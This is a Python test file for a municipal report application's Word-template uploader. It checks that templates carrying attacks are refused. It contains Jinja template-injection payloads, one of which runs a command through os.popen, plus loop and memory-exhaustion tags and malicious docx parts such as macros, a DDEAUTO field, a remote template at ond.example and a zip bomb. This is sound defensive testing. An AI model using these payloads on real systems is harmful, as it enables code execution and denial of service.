import zipfile
from collections.abc import Callable
from dataclasses import replace
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import translation
from docx import Document

from utblick.accounts.models import Municipality, Role, User
from utblick.accounts.tests.make import make_user
from utblick.followup.documents import word
from utblick.followup.documents.own.filling import filled_by
from utblick.followup.documents.own.sandbox import Sandbox
from utblick.followup.documents.own.trying import faults_of, paragraphs, probe
from utblick.followup.documents.shapes import COLUMNS
from utblick.followup.models import WordTemplate
from utblick.followup.paper import paper_of
from utblick.followup.tests.make import make_report, make_year
from utblick.indicators.tests.make import make_indicator

OURS = word.TEMPLATE.read_bytes()
BODY, TYPES = "word/document.xml", "[Content_Types].xml"


def changed(member: str, change: Callable[[str], str], **more: str) -> bytes:
    """Our template with one member changed, and others added."""
    body = BytesIO()
    with zipfile.ZipFile(BytesIO(OURS)) as source, zipfile.ZipFile(body, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            text = source.read(name)
            target.writestr(name, change(text.decode()) if name == member else text)
        for name, text in more.items():
            target.writestr(name, text)
    return body.getvalue()


def with_tag(tag: str) -> bytes:
    """Our template with one paragraph more, that says this."""
    return changed(BODY, lambda text: text.replace("<w:body>", f"<w:body><w:p><w:r><w:t>{tag}</w:t></w:r></w:p>", 1))


def told(template: bytes) -> str:
    with translation.override("sv"):
        return "; ".join(f"{fault.text} {fault.where}" for fault in faults_of(template))


def test_our_own_template_is_fit_to_begin_from() -> None:
    assert faults_of(OURS) == []


def test_one_with_a_letterhead_and_other_looks_is_fit_and_used() -> None:
    assert faults_of(with_tag("Strömsunds kommun {{ paper.municipality }}")) == []


def test_one_that_draws_no_chart_or_misplaces_it_is_fit_and_shows_no_mark_of_it(here: Municipality) -> None:
    make_year()
    paper = paper_of(make_report(), linked=False)
    beside = changed(BODY, lambda text: text.replace("{{ chart.place }}", "Se {{ chart.place }} ovan"))
    without = changed(BODY, lambda text: text.replace("{{ chart.place }}", ""))
    for template in (beside, without):
        assert faults_of(template, paper) == []
        made = filled_by(template, paper, Sandbox())
        assert not any("charts/" in name for name in zipfile.ZipFile(BytesIO(made)).namelist())
        assert "[[" not in "".join(paragraph.text for paragraph in Document(BytesIO(made)).paragraphs)
    assert "Se  ovan" in [one.text for one in Document(BytesIO(filled_by(beside, paper, Sandbox()))).paragraphs]
    assert "chart.titel" in told(changed(BODY, lambda text: text.replace("chart.title", "chart.titel")))


@pytest.mark.parametrize(
    "tag",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ paper.__init__.__globals__ }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ paper.title.format(1) }}",
        "{{ paper['__class__'] }}",
        "{{ paper.title|attr('__class__') }}",
        "{{ 10**10 }}",
        "{{ 'a' * 1000000000 }}",
        "{% for a in range(1000000000) %}{% endfor %}",
        "{% for a in paper.title %}{% endfor %}",
        "{% set x = 1 %}",
        "{% include 'x' %}",
        "{% import 'os' as os %}",
        "{% macro m() %}{% endmacro %}",
        "{{ paper.title|safe }}",
        "{% for a in paper.read recursive %}{% endfor %}",
    ],
)
def test_what_is_more_than_a_template_may_do_is_refused_and_nothing_of_it_runs(tag: str) -> None:
    text = told(with_tag(tag.replace("<", "&lt;")))
    assert "är mer än en mall får göra" in text


def test_loops_within_loops_are_stopped_before_they_take_the_machine() -> None:
    opening = "".join(f"{{% for {name} in paper.read %}}" for name in "abcdefg")
    template, long = with_tag(opening + "x" + "{% endfor %}" * 7), probe(is_frozen=False)
    with translation.override("sv"):
        (fault,) = faults_of(template, replace(long, parts=long.parts * 10))
    assert "alldeles för många gånger" in fault.text


def test_a_long_text_in_few_turns_is_stopped_too() -> None:
    template = with_tag("{% for a in paper.read %}{% for b in paper.read %}" + "x" * 500_000 + "{% endfor %}" * 2)
    long = probe(is_frozen=False)
    with translation.override("sv"):
        (fault,) = faults_of(template, replace(long, parts=long.parts * 10))
    assert "alldeles för många gånger" in fault.text


def test_a_field_that_is_not_there_is_told_with_where_it_stands() -> None:
    text = told(with_tag("Rubriken {{ paper.titel }} och {{ rapport.period }}"))
    assert "Det finns inget fält ”titel”" in text
    assert "”rapport”" in text
    assert "Rubriken {{ paper.titel }}" in text


def test_a_tag_that_cannot_be_read_is_told_with_where_it_stands() -> None:
    text = told(with_tag("Här {% if paper.title %} fattas slutet"))
    assert "kan inte läsas" in text


@pytest.mark.parametrize(
    ("tag", "said"),
    [
        ("{% if paper.title %} a", "den avslutas aldrig. Skriv ”{% endif %}” där den ska sluta"),
        ("{% for part in paper.read %} a", "Skriv ”{% endfor %}”"),
        ("a {% endif %}", "”{% endif %}” kan inte läsas: inget som den hör till är påbörjat före den"),
        ("{% if paper.title %}{% endfor %}{% endif %}", "den står inuti ”{% if paper.title %}”"),
        ("{{ paper.title } a", "”{{ paper.title } a” kan inte läsas: den är en halv tagg. Ett fält skrivs ”{{ … }}”"),
        ("{{ paper. }}", "skriv bara fältets namn, som ”{{ paper.title }}”"),
        ("{{ paper title }}", "”{{ paper title }}” kan inte läsas: skriv bara fältets namn"),
        ("{% fro part in paper.read %}", "en mall känner till for, endfor, if, elif, else och endif"),
        ("{% for part paper.read %}{% endfor %}", "en slinga skrivs ”{% for part in paper.read %}”"),
        ("{% if %}a{% endif %}", "ett villkor ”{% if paper.is_frozen %}”"),
    ],
)
def test_how_a_tag_that_cannot_be_read_is_mended_is_told_in_the_readers_language(tag: str, said: str) -> None:
    text = told(with_tag(f"Inledning {tag}"))
    assert said in text
    assert f"Inledning {tag}".strip() in text, "where it stands"
    assert text.count("kan inte läsas") == 1
    for english in ("unexpected", "expected", "Jinja", "Encountered", "innermost"):
        assert english not in text


def test_each_tag_that_cannot_be_read_is_told() -> None:
    text = told(with_tag("{{ paper. }} och {% fro x %}"))
    assert "”{{ paper. }}” kan inte läsas" in text
    assert "”{% fro x %}” kan inte läsas" in text


@pytest.mark.parametrize(
    ("field", "named"),
    [
        ("{{ paper.period }}", "perioden"),
        ("{{ part.heading }}", "rubrikerna"),
        ("{{ block.text }}", "styckena"),
        ("{{ row[3].text }}", "tabellen ”steps”"),
        ("{{ paper.checksum }}", "kontrollsumman"),
    ],
)
def test_a_template_without_a_field_that_is_needed_is_told_which(field: str, named: str) -> None:
    assert named in told(changed(BODY, lambda text: text.replace(field, "")))


@pytest.mark.parametrize(
    ("template", "named"),
    [
        (b"PK\x03\x04 trasig", "skadad"),
        (b"inget Word alls", "skadad"),
        (changed(TYPES, lambda text: text.replace("document.main+xml", "template.main+xml")), "(.dotx)"),
        (changed(TYPES, lambda text: text.replace("document.main+xml", "glossary.main+xml")), "inget Word-dokument"),
        (changed("", str, **{"word/vbaProject.bin": "makro"}), "makron"),
        (changed("", str, **{"word/embeddings/oleObject1.bin": "x"}), "inbäddade objekt"),
        (
            changed("word/_rels/document.xml.rels", lambda text: text.replace(
                "</Relationships>", '<Relationship Id="x9" Type="http://x/attachedTemplate" '
                'Target="http://ond.example/mall.dotm" TargetMode="External"/></Relationships>')),
            "http://ond.example/mall.dotm",
        ),
        (
            changed(BODY, lambda text: text.replace(
                "<w:body>", '<w:body><w:p><w:fldSimple w:instr="DDEAUTO c:\\\\x"/></w:p>', 1)),
            "DDEAUTO",
        ),
        (changed(BODY, lambda text: text.replace("<w:document", '<!DOCTYPE x [<!ENTITY a "b">]><w:document', 1)), "skadad"),
        (changed("", str, **{"word/stor.xml": "0" * 11_000_000}), "packas upp till"),
    ],
)  # fmt: skip
def test_what_would_run_fetch_or_burst_is_refused_before_it_is_opened(template: bytes, named: str) -> None:
    assert named in told(template)


@pytest.mark.django_db
def test_each_table_of_a_report_has_a_shape_that_the_templates_know(here: Municipality) -> None:
    make_indicator(goal=make_year()[0], values={2026: "47"})
    tables = [table for part in make_report().content()["parts"] for table in part["tables"]]
    assert {(table["shape"], len(table["head"])) for table in tables} <= set(COLUMNS.items())
    assert {"goals", "indicators", "steps", "people", "counts"} <= {table["shape"] for table in tables}


def sent(client: Client, template: bytes) -> object:
    upload = SimpleUploadedFile("kommunens mall.docx", template)
    return client.post(reverse("followup:template"), {"file": upload})


@pytest.mark.django_db
def test_an_uploaded_template_is_tried_used_withdrawn_and_used_again(client: Client, coordinator: User) -> None:
    make_year()
    report = make_report()
    client.force_login(coordinator)
    own = with_tag("KOMMUNENS BREVHUVUD")
    assert sent(client, own).status_code == 302  # type: ignore[attr-defined]
    assert "KOMMUNENS BREVHUVUD" in list(paragraphs(word.made_of(paper_of(report, linked=False))))
    stored = WordTemplate.objects.get()
    handed = client.get(reverse("followup:template_file", args=[stored.pk]))
    assert b"".join(handed.streaming_content) == own  # type: ignore[attr-defined]
    client.post(reverse("followup:withdraw_template", args=[stored.pk]))
    assert "KOMMUNENS BREVHUVUD" not in list(paragraphs(word.made_of(paper_of(report, linked=False))))
    client.post(reverse("followup:restore_template", args=[stored.pk]))
    assert WordTemplate.objects.in_use() == stored


@pytest.mark.django_db
def test_an_unfit_template_is_told_of_and_the_one_in_use_stays(client: Client, coordinator: User) -> None:
    client.force_login(coordinator)
    answer = sent(client, changed(BODY, lambda text: text.replace("{{ part.heading }}", "{{ part.rubrik }}")))
    assert answer.status_code == 422  # type: ignore[attr-defined]
    assert "Det finns inget fält ”rubrik”" in answer.text  # type: ignore[attr-defined]
    assert not WordTemplate.objects.exists()


@pytest.mark.django_db
def test_a_report_that_would_lose_a_table_by_the_template_is_written_by_ours(here: Municipality) -> None:
    """Such as one that was uploaded before a new kind of table came into the report."""
    from utblick.journal import attachments

    make_year()
    report = make_report()
    without = changed(BODY, lambda text: text.replace('table.shape == "people"', 'table.shape == "inget"'))
    kept = attachments.keep(SimpleUploadedFile("gammal.docx", without))
    WordTemplate(file=kept, name="gammal.docx", added_by=make_user(Role.COORDINATOR)).save()
    document = Document(BytesIO(word.made_of(paper_of(report, linked=False))))
    assert any("Klass 8 till Lierne" in row.cells[0].text for table in document.tables for row in table.rows)
    assert any("Flickor" in cell.text for table in document.tables for cell in table.rows[0].cells)


@pytest.mark.django_db
@pytest.mark.parametrize("role", [Role.OFFICER, Role.DECISION_MAKER, Role.EDITOR, Role.AUDITOR, Role.LOCAL_ACTOR])
def test_only_a_coordinator_changes_the_template(client: Client, here: Municipality, role: str) -> None:
    client.force_login(make_user(role))
    assert sent(client, OURS).status_code == 403  # type: ignore[attr-defined]
